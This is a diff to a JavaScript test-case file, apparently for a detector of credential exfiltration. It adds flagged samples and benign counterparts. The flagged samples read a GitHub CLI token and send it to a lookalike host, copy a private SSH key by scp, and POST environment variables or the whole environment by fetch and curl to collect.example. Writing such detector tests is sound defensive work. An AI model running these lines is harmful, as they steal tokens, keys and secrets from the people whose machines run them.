@@ -130,6 +130,31 @@ export default defineCases({
       },
     },
     {
+      name: 'the token of a vendor’s program at that vendor, when it is asked',
+      noted: true,
+      code: "const { execSync } = require('child_process');\nexports.me = () => fetch('https://api.github.com/user', { headers: { authorization: 'token ' + execSync('gh auth token') } })",
+    },
+    {
+      name: 'the token of a vendor’s program at a host that is called like the vendor’s',
+      code: "const { execSync } = require('child_process');\nfetch('https://api.github.com.collect.example/user', { headers: { authorization: 'token ' + execSync('gh auth token') } })",
+    },
+    {
+      name: 'the same at the vendor, while it is loaded',
+      code: "const { execSync } = require('child_process');\nfetch('https://api.github.com/user/repos', { method: 'POST', headers: { authorization: 'token ' + execSync('gh auth token') } })",
+    },
+    {
+      name: 'a key that is copied, beside the one to log in with',
+      code: "require('child_process').execSync('scp -i ./own.key ~/.ssh/id_rsa a@collect.example:')",
+    },
+    {
+      name: 'variables of a vendor, and all but some',
+      code: "const all = Object.entries(process.env);\nconst send = (body) => fetch('https://collect.example', { method: 'POST', body: JSON.stringify(body) });\nsend(all.filter(([name]) => name.startsWith('AWS_')));\nsend(all.filter(([name]) => !name.startsWith('HEADER_')))",
+    },
+    {
+      name: 'one variable of a child’s that holds all of ours',
+      code: "const env = { ...process.env };\nenv.ALL = JSON.stringify(process.env);\nrequire('child_process').execSync('curl -d \"$ALL\" https://collect.example', { env })",
+    },
+    {
       name: 'by a child process',
       code: "const { execSync } = require('child_process');\nconst t = execSync('gh auth token').toString();\nexecSync('curl -d ' + t + ' https://collect.example')",
     },
@@ -203,6 +228,18 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'the environment of a program that fetches something',
+      code: "const { spawnSync } = require('child_process');\nspawnSync('curl', ['-fsSLo', 'x.tgz', 'https://dl.example/x.tgz'], { env: { ...process.env, LC_ALL: 'C' }, stdio: 'inherit' })",
+    },
+    {
+      name: 'the key that a program logs in with',
+      code: "const { execSync, spawnSync } = require('child_process');\nexecSync(`rsync -az -e 'ssh -i ~/.ssh/id_ed25519' dist/ ${process.argv[2]}:/srv`);\nspawnSync('scp', ['-i', require('os').homedir() + '/.ssh/id_rsa', 'dist.tgz', process.argv[2]])",
+    },
+    {
+      name: 'headers that are set by variables of its own',
+      code: "const own = Object.entries(process.env).filter(([name]) => name.startsWith('HEADER_'));\nconst headers = Object.fromEntries(own.map(([name, value]) => [name.slice(7), value]));\nfetch(process.env.SERVER_URL, { headers })",
+    },
     {
       name: 'a picture of the screen that is kept, and one that is the answer of a tool',
       manifest: { type: 'module' },
